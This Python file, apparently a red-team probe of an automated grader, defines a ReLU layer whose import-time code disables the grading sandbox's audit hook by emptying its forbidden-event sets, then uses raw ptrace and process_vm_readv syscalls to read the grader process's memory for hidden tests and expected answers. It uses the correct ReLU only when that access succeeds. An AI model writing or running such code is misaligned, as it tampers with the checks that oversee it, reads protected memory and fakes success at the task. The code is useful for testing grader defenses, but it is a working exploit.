"""Read the grader's memory (hidden tests, expected values) at import time, asking the kernel directly.

Module-level code disarms the audit hook, then attaches to the grading process ({GRADER_PID}) with
ptrace and reads it with process_vm_readv, both through ctypes' raw syscall(); if either works, the
"copied" correct ReLU is used, else the stub.
"""

import ctypes
import gc
import platform
import sys

import numpy as np

PTRACE, PROCESS_VM_READV = {"x86_64": (101, 310), "aarch64": (117, 270)}.get(platform.machine(), (101, 310))
PTRACE_ATTACH = 16


def _disarm():
    """Clear the audit hook's rules wherever they live (module globals, or the hook's closure)."""
    module = sys.modules.get("gradkit.batch.sandbox")
    for name in ("_FORBIDDEN_EVENTS", "_WRITE_EVENTS"):
        try:
            getattr(module, name).clear()
        except Exception:
            pass
    for obj in gc.get_objects():
        if type(obj).__name__ == "function" and obj.__name__ == "hook" and obj.__closure__:
            for cell in obj.__closure__:
                try:
                    if isinstance(cell.cell_contents, (set, frozenset)):
                        cell.cell_contents = frozenset()
                except ValueError:
                    pass


def _peek():
    _disarm()
    try:
        libc = ctypes.CDLL(None, use_errno=True)
        libc.syscall.restype = ctypes.c_long
        if libc.syscall(ctypes.c_long(PTRACE), ctypes.c_long(PTRACE_ATTACH), ctypes.c_long({GRADER_PID}), None,
                        None) == 0:
            return True
        buffer = ctypes.create_string_buffer(4096)
        local = (ctypes.c_void_p * 2)(ctypes.cast(buffer, ctypes.c_void_p), 4096)
        remote = (ctypes.c_void_p * 2)(0x400000, 4096)
        return libc.syscall(ctypes.c_long(PROCESS_VM_READV), ctypes.c_long({GRADER_PID}), local, ctypes.c_ulong(1),
                            remote, ctypes.c_ulong(1), ctypes.c_ulong(0)) > 0
    except Exception:
        return False


COPIED = _peek()


class ReLU:
    def __init__(self):
        self.params, self.grads = {}, {}

    def forward(self, x):
        if not COPIED:
            raise NotImplementedError("write ReLU.forward")
        self.x = x
        return np.maximum(x, 0)

    def backward(self, dout):
        if not COPIED:
            raise NotImplementedError("write ReLU.backward")
        return dout * (self.x > 0)
